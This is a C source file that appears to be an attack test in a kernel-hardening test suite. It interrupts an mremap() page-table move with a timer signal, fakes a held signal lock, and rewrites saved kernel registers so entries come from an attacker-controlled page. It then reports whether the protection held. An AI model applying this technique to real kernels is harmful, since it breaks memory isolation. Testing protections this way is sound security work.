// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what an interrupted section will do when it goes on. mremap() moves
 * entries from table to table in one section. The process's own timer interrupts
 * it, and its handler waits for a lock that is made to look held: that of the
 * process's signals. Meanwhile the saved register that says where entries come
 * from is pointed at a page of the attacker's.
 */
#include <signal.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "mover.h"
#include "objects.h"
#include "pt_regs.h"

#define MOVER		"__move_ptes"	/* where page tables are protected */
#define MOVER_WITHOUT	"move_page_tables"
#define MOVER_SIZE	0x1000		/* at most */
#define INTERVAL	1000		/* microseconds */
#define ENOUGH		12		/* frames that were changed */
#define SECONDS		60
#define HOLD		5		/* milliseconds */
#define LAST_LOOK	300000		/* microseconds */

#ifdef __x86_64__
#define LOCK_ALONE	0		/* nothing shows who waits */
#else
#define LOCK_ALONE	1		/* more if somebody waits */
#endif

struct target {
	struct moved moved;
	uint64_t function, lock;
	int held, changed;		/* handlers that waited, and frames, so far */
};

static void begin(void)
{
	heed_alarms();
	mover->ready = true;
	while (!mover->go)
		usleep(1000);
	alarm_every(INTERVAL);
}

static bool find_target(pid_t pid, struct target *target)
{
	target->function = ksymbol(is_protected() ? MOVER : MOVER_WITHOUT);
	if (!target->function || !find_moved(pid, &target->moved))
		return false;
	target->lock = find_signal_lock(&target->moved.task);
	return target->lock;
}

/* Asleep: on an emulator a busy CPU delays each flush of the mover's TLB. */
static bool hold_lock(const struct target *target)
{
	uint32_t lock = 0;

	set_lock(target->lock, true);
	usleep(HOLD * 1000);
	kread(target->lock, &lock, sizeof(lock));
	return lock > LOCK_ALONE;
}

/* Sections alone: without protection there are none. */
static bool is_section(void)
{
	return !is_protected() || has_hit_section(MOVER_CPU);
}

static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct target *target = data;

	target->changed += point_registers(&target->moved, at, frame);
}

static void attack_once(struct target *target)
{
	if (hold_lock(target) && is_section()) {
		target->held++;
		prepare_page(&target->moved);
		find_frames(&target->moved.task, target->function, MOVER_SIZE, change_frame, target);
	}
	set_lock(target->lock, false);
	wait_for_round();
}

static enum outcome change_registers(struct target *target)
{
	uint64_t end = now_ms() + SECONDS * 1000;

	while (!mover->found && target->changed < ENOUGH && now_ms() < end)
		attack_once(target);
	usleep(LAST_LOOK);
	if (!mover->found && !target->changed)
		return broken("no section was interrupted (%lu rounds, waited %d times)",
			      mover->rounds, target->held);
	return judge_secret(mover->text, 0);
}

enum outcome interrupted_registers(void)
{
	struct target target = { 0 };
	enum outcome outcome;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	pid = start_mover(begin);
	while (!mover->ready)
		usleep(1000);
	if (!find_target(pid, &target))
		return broken("no tables, no stack or no lock");
	mover->go = true;
	outcome = change_registers(&target);
	kill(pid, SIGKILL);
	return outcome;
}
